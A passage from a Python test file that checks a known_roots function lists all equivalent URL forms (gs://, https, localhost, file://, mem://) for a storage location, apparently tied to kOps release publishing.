            "https://storage.googleapis.com/a/b/",
            ["gs://a/b/", "https://storage.cloud.google.com/a/b/"],
        ),
        (
            "gs://a/b c/",
            "http://127.0.0.1:1/a/b%20c/",
            ["http://127.0.0.1:1/a/b%20c/", "http://127.0.0.1:1/a/b c/"],
        ),
        ("file:///lin%20k/", "file:///real/", ["file:///lin k/", "/lin k/", "file:///real/", "/real/"]),
        ("file:///", "file:///", ["file:///", "/"]),
        ("mem://x/", "mem://x/", ["mem://x/"]),
    ],
)
def test_a_store_is_known_by_each_of_its_urls(url: str, public_url: str, roots: list[str]) -> None:
    """As a person writes it, as a script reads it, and where kOps publishes (FAILURES row 46)."""
    found = known_roots(url, public_url=public_url)
    assert {url, public_url, *roots, OFFICIAL_ROOT, "gs://k8s-staging-kops/kops/releases/"} <= set(found)
    assert len(set(found)) == len(found)
    assert all(root.endswith("/") for root in found)
